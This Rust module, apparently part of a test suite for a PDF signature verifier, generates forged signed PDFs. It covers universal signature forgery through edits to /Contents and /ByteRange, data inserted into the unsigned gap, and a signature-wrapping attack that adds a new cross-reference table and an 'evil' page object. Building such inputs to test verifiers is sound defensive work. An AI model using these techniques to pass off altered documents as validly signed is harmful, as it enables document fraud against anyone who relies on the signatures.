//! Universal forgery and wrapping: the signature's dictionary says something else.

use std::fmt::Write as _;

use super::bases::{RED, gap, range, startxref};
use crate::{contract::over, paper::stream};

/// The message of the last signature, replaced where it stands.
pub fn contents(file: &[u8], text: &str) -> Vec<u8> {
    without_contents(file, &format!("/Contents {text}"))
}

/// The same without another length: what is left is filled with zeros.
pub fn digits(file: &[u8], digits: &str) -> Vec<u8> {
    let mut out = file.to_vec();
    let gap = gap(file);
    let digits = format!("{digits:0<width$}", width = gap.len() - 2);
    over(&mut out, gap.start + 1..gap.end - 1, &digits);
    out
}

/// Its key too.
pub fn without_contents(file: &[u8], text: &str) -> Vec<u8> {
    let mut out = file.to_vec();
    let gap = gap(file);
    over(&mut out, gap.start - "/Contents".len()..gap.end, text);
    out
}

/// `/ByteRange[…]`, replaced where it stands.
pub fn byte_range(file: &[u8], text: &str) -> Vec<u8> {
    let mut out = file.to_vec();
    over(&mut out, range(file), text);
    out
}

/// The same from the true numbers: up to the message, behind it, and to the end.
pub fn numbers(file: &[u8], text: fn(usize, usize, usize) -> String) -> Vec<u8> {
    let gap = gap(file);
    let text = text(gap.start, gap.end, file.len() - gap.end);
    byte_range(file, &format!("/ByteRange[{text}]"))
}

/// What was signed behind the message is moved to the end of the file, and the range
/// follows it. In its old place, where the end of the file leads to, stands another
/// cross-reference with other content for the page. The range lies in what is signed;
/// `second` leaves it alone and puts a second one into the gap.
pub fn wrapped(file: &[u8], padding: usize, second: bool) -> Vec<u8> {
    let gap = gap(file);
    let (head, tail) = file.split_at(gap.end);
    let table = startxref(file);
    let evil = format!("5 0 obj\n{}\nendobj\n", stream("", RED));
    // Numbers have one width, so that a second round knows where everything is.
    let lay_out = |moved: usize| {
        let range = format!(
            "/ByteRange[0 {:010} {moved:010} {:010}]",
            gap.start,
            tail.len()
        );
        let mut out = head.to_vec();
        let key = if second { range.as_str() } else { "" };
        out.extend(format!("{key}>>\nendobj\n").bytes());
        let mut rows = format!("5 1\n{:010} 00000 n \n", out.len());
        for (number, at) in objects(tail) {
            write!(rows, "{number} 1\n{:010} 00000 n \n", at + moved).unwrap();
        }
        out.extend(evil.bytes());
        assert!(out.len() <= table, "no room before {table}");
        out.resize(table, b' ');
        let previous = table - gap.end + moved;
        let trailer = format!("<</Size 999/Root 1 0 R/Prev {previous:010}>>");
        out.extend(format!("xref\n{rows}trailer\n{trailer}\nstartxref\n{table}\n%%EOF\n").bytes());
        out.resize(out.len() + padding, b' ');
        (out, range)
    };
    let moved = lay_out(0).0.len();
    let (mut out, text) = lay_out(moved);
    if !second {
        let place = range(head);
        over(&mut out, place, &text.replace("0000", ""));
    }
    [out, tail.to_vec()].concat()
}

/// Numbers and places of the objects in a part of a file.
fn objects(part: &[u8]) -> Vec<(u32, usize)> {
    let text: String = part.iter().map(|byte| char::from(*byte)).collect();
    let heads = text.match_indices(" 0 obj\n").filter_map(|(end, _)| {
        let begin = text[..end].rfind('\n')? + 1;
        Some((text[begin..end].parse().ok()?, begin))
    });
    heads.collect()
}

/// Something more in the gap, which the range leaves out: the message shrinks for it.
pub fn in_the_gap(file: &[u8], text: &str) -> Vec<u8> {
    let mut out = file.to_vec();
    let gap = gap(file);
    let begin = gap.end - text.len();
    out[begin..gap.end].copy_from_slice(text.as_bytes());
    out
}
